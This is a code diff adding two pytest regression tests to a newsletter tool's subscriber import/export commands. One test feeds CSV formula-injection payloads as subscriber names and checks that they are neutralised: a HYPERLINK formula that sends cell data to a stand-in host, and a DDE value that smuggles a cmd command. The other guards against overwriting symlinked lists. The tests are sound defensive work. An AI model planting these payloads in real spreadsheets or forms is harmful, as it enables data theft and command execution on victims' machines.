@@ -616,3 +616,61 @@ def test_demo_publication_commands(demo: Path) -> None:
         pytest.skip("the article sources are not registered yet in this tree")
     assert r.exit_code == 0, r.output
     assert int(r.stdout) >= 1
+
+
+def test_a_name_readers_typed_elsewhere_is_no_spreadsheet_formula(
+    pub: Config, tmp_path: Path
+) -> None:
+    # Mailchimp's and Patreon's names are what readers typed into those services' forms: a
+    # name like =HYPERLINK(…) ran as a formula when the publisher opened subscribers.csv
+    sub = write(
+        tmp_path / "subscribed_members_export.csv",
+        export_csv(
+            MAILCHIMP_COMMON + "CONFIRM_TIME, TAGS",
+            {
+                "Email Address": "eve@example.org",
+                "First Name": '=HYPERLINK("https://evil.example/?"&A2',
+                "Last Name": '"Eve")',
+            },
+            {"Email Address": "mal@example.org", "First Name": "@SUM(1+1)"},
+        ),
+    )
+    r = run(pub, "subscribers", "import", str(sub), "--format", "mailchimp")
+    assert r.exit_code == 0, r.output
+    patreon = write(
+        tmp_path / "members.csv",
+        "Name,Email,Patron Status\n\"-1+cmd|' /C calc'!A0\",pat@example.org,Active patron\n",
+    )
+    r = run(pub, "subscribers", "import", str(patreon), "--format", "patreon")
+    assert r.exit_code == 0, r.output
+    names = {s.email: s.name for s in subscribers.iter_subscribers(pub)}
+    assert names["eve@example.org"] == 'HYPERLINK("https://evil.example/?"&A2 "Eve")'
+    assert names["mal@example.org"] == "SUM(1+1)"
+    assert names["pat@example.org"] == "1+cmd|' /C calc'!A0"
+
+
+def test_export_never_writes_over_a_list_linked_into_the_subscribers_folder(
+    pub: Config, tmp_path: Path
+) -> None:
+    # subscribers/readers.csv is a link to a list kept elsewhere: --out the link (or the file
+    # it points to) wrote the export over that list, losing every unsubscribed/bounced row
+    elsewhere = tmp_path / "data"
+    elsewhere.mkdir()
+    real = elsewhere / "readers.csv"
+    real.write_text(
+        "email,name,lists,tags,status,subscribed_at\n"
+        "ann@example.org,Ann,,,active,\nleft@example.org,,,,unsubscribed,\n",
+        encoding="utf-8",
+    )
+    (pub.root / "subscribers/readers.csv").symlink_to(real)
+    before = real.read_bytes()
+    for out in (pub.root / "subscribers/readers.csv", real):
+        r = run(pub, "subscribers", "export", "--out", str(out))
+        assert r.exit_code == 2, r.output
+        [line] = r.stderr.splitlines()
+        assert line.startswith("error: --out: ") and "is a subscriber list" in line
+    assert real.read_bytes() == before
+    assert (pub.root / "subscribers/readers.csv").is_symlink()
+    # elsewhere is fine
+    r = run(pub, "subscribers", "export", "--out", str(elsewhere / "export.csv"))
+    assert r.exit_code == 0, r.output
